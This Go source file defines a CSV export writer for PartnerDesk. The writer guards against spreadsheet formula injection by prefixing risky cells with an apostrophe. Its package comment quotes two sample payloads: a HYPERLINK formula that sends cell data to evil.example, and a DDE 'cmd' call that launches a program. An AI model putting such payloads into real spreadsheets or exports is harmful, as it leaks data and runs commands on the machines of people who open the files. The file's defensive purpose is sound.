// Package csvexport writes the CSV files PartnerDesk exports (the activity log, invoices, and
// any later export). Every export goes through its Writer, which neutralises every cell a
// spreadsheet would run as a formula: exports hold text that users typed (company names,
// support requests' order references, activity details), and a cell such as
// `=HYPERLINK("https://evil.example/?"&A1)` or `=cmd|' /C calc'!A0` must reach the reader as text.
package csvexport

import (
	"encoding/csv"
	"io"
	"regexp"
	"strings"
	"unicode"
)

// Writer is a CSV writer whose every cell is neutralised (see Neutralise).
type Writer struct {
	w *csv.Writer
}

// NewWriter returns a Writer on w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, each cell neutralised.
func (w *Writer) Write(cells ...string) error {
	rec := make([]string, len(cells))
	for i, c := range cells {
		rec[i] = Neutralise(c)
	}
	return w.w.Write(rec)
}

// Flush writes any buffered data to the underlying writer and returns its error, if any.
func (w *Writer) Flush() error {
	w.w.Flush()
	return w.w.Error()
}

// number is a plain decimal number, as amounts are exported ("-3.05", "12000"): a spreadsheet
// reads it as a number and runs nothing, so a negative amount stays a number.
var number = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// formulaStart lists the characters with which spreadsheets (Excel, LibreOffice, Google
// Sheets) start a formula or a DDE call, with their fullwidth forms, which some of them accept.
const formulaStart = "=+-@|%＝＋－＠｜％"

// Neutralise returns the cell as a spreadsheet must show it: a cell that starts with a formula
// character, also after leading spaces, tabs or line breaks (which spreadsheets skip), or that
// starts with a tab, carriage return or line feed, gets a leading apostrophe, which spreadsheets
// read as "text" and do not show. Plain numbers stay as they are.
func Neutralise(s string) string {
	if s == "" || number.MatchString(s) {
		return s
	}
	if s[0] == '\t' || s[0] == '\r' || s[0] == '\n' {
		return "'" + s
	}
	rest := strings.TrimLeftFunc(s, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
	if rest != "" && strings.ContainsRune(formulaStart, []rune(rest)[0]) {
		return "'" + s
	}
	return s
}
